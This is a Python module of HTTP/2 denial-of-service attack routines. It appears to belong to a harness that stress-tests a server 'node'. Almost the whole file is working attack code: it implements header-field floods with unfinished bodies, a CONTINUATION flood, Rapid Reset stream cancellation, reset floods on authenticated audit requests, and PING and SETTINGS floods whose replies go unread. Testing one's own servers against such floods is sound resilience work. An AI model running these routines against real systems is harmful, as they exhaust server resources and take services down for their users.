"""Streams that cost the node more than they cost their sender."""
import time

import http2


def _repeat(attack, flood, connections=6, spread=1):
    """`flood(connection)` until it says that the connection is over, then a new one, until the time is over."""
    def one(index):
        connection = http2.Connection(attack.tls(index % spread, "h2"))
        attack.count("connections")
        connection.socket.settimeout(1)
        try:
            while attack.left() > 0 and not connection.is_over:
                flood(connection)
        except TimeoutError:
            attack.count("connections that the node stopped reading")
            time.sleep(0.2)
        except OSError:
            attack.count("connections closed by the node")
        finally:
            connection.close()

    attack.repeat(one, threads=connections)


def _look(connection):
    """Reads what has come, without waiting for more."""
    connection.socket.setblocking(False)
    try:
        for _ in range(50):
            connection.read()
    except BlockingIOError:
        pass
    except OSError as error:
        if "want read" not in str(error).lower() and "did not complete" not in str(error).lower():
            raise
    finally:
        connection.socket.settimeout(1)


def fields(attack, connections=200):
    """Streams with 15 kB of header fields each and a body that never ends."""
    more = [(f"x-{index}", "v" * 360) for index in range(40)]

    def one(index):
        connection = http2.Connection(attack.tls(0, "h2", window=4_096))
        attack.held.append(connection)
        connection.read()
        streams = min(connection.streams, 100)
        for number in range(streams):
            connection.send(http2.request(2 * number + 1, "/api/v1/sessions", "POST", None, more, is_end=False))
            attack.count("streams")

    attack.crowd(attack.scaled(connections), one)
    attack.hold()


def continuation(attack):
    """One request whose header fields never end."""
    part = http2.frame(http2.CONTINUATION, 0, 1, http2.block([("x-more", "v" * 4_000)] * 4)[:16_000])

    def flood(connection):
        if not hasattr(connection, "has_begun"):
            connection.has_begun = True
            connection.send(http2.frame(http2.HEADERS, 0, 1, http2.block([(":method", "GET"), (":path", "/livez")])))
        connection.send(part)
        attack.count("frames")

    _repeat(attack, flood)


def rapid_reset(attack):
    """Requests that are taken back at once."""
    def flood(connection):
        first = getattr(connection, "next", 1)
        frames = []
        for stream in range(first, first + 100, 2):
            frames += [http2.request(stream, "/openapi.json"), http2.reset(stream)]
        connection.send(*frames)
        connection.next = first + 100
        attack.count("streams", 50)
        _look(connection)

    _repeat(attack, flood)


def reset_work(attack, connections=64, spread=8):
    """Requests that wait for their turn to work, taken back while they wait, on one connection after the other."""
    token = attack.tenant.token

    def one(index):
        connection = http2.Connection(attack.tls(index % spread, "h2"))
        try:
            frames = []
            for stream in range(1, 64, 2):
                frames += [http2.request(stream, "/api/v1/audit?limit=200", token=token), http2.reset(stream)]
            connection.send(*frames)
            attack.count("streams", 32)
            time.sleep(0.05)
        finally:
            connection.close()

    attack.repeat(one, threads=connections)


def ping(attack):
    """Pings whose answers are not read."""
    text = http2.frame(http2.PING, 0, 0, b"01234567") * 500

    def flood(connection):
        connection.send(text)
        attack.count("frames", 500)

    _repeat(attack, flood)


def settings(attack):
    """Settings that must be acknowledged, whose acknowledgements are not read."""
    text = http2.settings({http2.INITIAL_WINDOW_SIZE: 65_535}) * 500

    def flood(connection):
        connection.send(text)
        attack.count("frames", 500)

    _repeat(attack, flood)
